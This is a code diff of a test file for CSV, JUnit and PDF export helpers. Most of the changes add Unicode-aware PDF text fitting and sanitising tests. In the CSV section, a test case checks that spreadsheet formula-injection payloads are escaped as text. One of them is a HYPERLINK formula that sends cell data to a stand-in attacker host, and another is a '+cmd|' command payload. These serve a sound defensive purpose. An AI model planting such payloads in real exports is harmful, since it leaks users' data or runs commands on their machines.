@@ -1,8 +1,11 @@
+import PDFDocument from 'pdfkit';
+import { isWellFormedText } from '../../../common/validation/well-formed';
 import { parseJunit } from '../../imports/junit/junit-parser';
 import type { ReportRow } from '../report';
 import type { ReportItemWithRows } from '../exports.repository';
 import { addToTotals, emptyTotals, junitTestcase, splitComment } from './junit';
-import { pdfSafe, sliceSvgPath } from './pdf';
+import { sliceSvgPath } from './pdf';
+import { fitText, PDF_FONT, pdfInfoText, pdfText, registerPdfFonts } from './pdf-fonts';
 import { csvField, csvLine, xmlAttr, xmlTagName, xmlText } from './text';
 import { xmlElement } from './xml';
 
@@ -17,7 +20,10 @@ describe('CSV (RFC 4180)', () => {
     [' padded', '" padded"'],
     [['a', 'b'], 'a;b'],
     // Formula injection (found by an audit): text a spreadsheet would run is shown as text.
-    ['=HYPERLINK("https://evil.example/?d="&A2,"x")', '"\'=HYPERLINK(""https://evil.example/?d=""&A2,""x"")"'],
+    [
+      '=HYPERLINK("https://evil.example/?d="&A2,"x")',
+      '"\'=HYPERLINK(""https://evil.example/?d=""&A2,""x"")"',
+    ],
     ['+cmd|x', "'+cmd|x"],
     ['-2+3', "'-2+3"],
     ['@SUM(A1)', "'@SUM(A1)"],
@@ -161,9 +167,64 @@ describe('JUnit export', () => {
 });
 
 describe('PDF helpers', () => {
-  it('keeps text the standard fonts can show', () => {
-    expect(pdfSafe('Grüße – “ok” 日本\u0007')).toBe('Grüße – “ok” ?? ');
-    expect(pdfSafe(null)).toBe('');
+  it.each([
+    ['Western European and typography', 'Grüße – “ok” € …', 'Grüße – “ok” € …'],
+    // The standard fonts showed these as `?` (WinAnsi only).
+    ['Polish', 'Zażółć gęślą jaźń', 'Zażółć gęślą jaźń'],
+    ['Czech, Turkish, Romanian', 'Příliš žluťoučký · şığ · ș ț', 'Příliš žluťoučký · şığ · ș ț'],
+    ['Vietnamese', 'Tiếng Việt', 'Tiếng Việt'],
+    ['Greek and Cyrillic', 'Ελληνικά · Проверка входа', 'Ελληνικά · Проверка входа'],
+    ['symbols', 'passed ✓ failed ✗ → ≤ ±', 'passed ✓ failed ✗ → ≤ ±'],
+    ['CJK and emoji: not in the font', 'ログイン 测试 🚀', '???? ?? ?'],
+    ['right to left: not reordered, so not shown', 'בדיקה اختبار', '????? ??????'],
+    ['controls (C0, DEL, C1) become spaces', 'a\u0007b\u007fc\u0085d\te', 'a b c d e'],
+    ['a lone surrogate', 'x\ud800y', 'x?y'],
+    ['nothing', null, ''],
+  ])('pdfText keeps what the font draws: %s', (_what, given, shown) => {
+    expect(pdfText(given)).toBe(shown);
+  });
+
+  describe('fitText', () => {
+    const doc = new PDFDocument();
+    registerPdfFonts(doc);
+    const width = (text: string) => doc.font(PDF_FONT.regular).fontSize(8).widthOfString(text);
+
+    it.each([
+      ['short text', 'passed', 60],
+      ['an empty cell', '', 10],
+      ['exactly what pdfkit measures as fitting', 'Unassigned', 47],
+    ])('leaves %s as it is', (_what, text, room) => {
+      expect(fitText(text, 'regular', 8, room)).toBe(text);
+    });
+
+    it.each([
+      ['a long title', 'test_case_number_4711_does_something_useful_with_a_long_name', 145],
+      ['Cyrillic', 'Проверка входа с неверным паролем и длинным названием', 80],
+      ['wide letters', 'WWWWWWWWWWWWWWWWWWWWWWWWWWWWWW', 40],
+      ['a timestamp', '2026-11-29 01:21', 58],
+    ])(
+      'cuts %s to the column, ending in an ellipsis, as pdfkit measures it',
+      (_what, text, room) => {
+        const fitted = fitText(text, 'regular', 8, room);
+        expect(fitted.endsWith('…')).toBe(true);
+        expect(text.startsWith(fitted.slice(0, -1).trimEnd())).toBe(true);
+        expect(width(fitted)).toBeLessThanOrEqual(room);
+        // Not cut too early: the next character (past the spaces the cut trimmed) would not fit.
+        let next = fitted.length - 1;
+        while (text[next] === ' ') next += 1;
+        expect(width(`${text.slice(0, next + 1)}…`)).toBeGreaterThan(room - 1);
+      },
+    );
+
+    it('never splits a character outside the Basic Multilingual Plane', () => {
+      const fitted = fitText('𝐀𝐁𝐂𝐃𝐄𝐅𝐆𝐇𝐈𝐉𝐊𝐋', 'regular', 8, 30);
+      expect(fitted.endsWith('…')).toBe(true);
+      expect(isWellFormedText(fitted)).toBe(true);
+    });
+  });
+
+  it('pdfInfoText keeps any script for the metadata, without controls or lone surrogates', () => {
+    expect(pdfInfoText('ログイン\u0007テスト\ud800')).toBe('ログイン テスト\ufffd');
   });
 
   it('draws pie slices clockwise from 12 o’clock', () => {
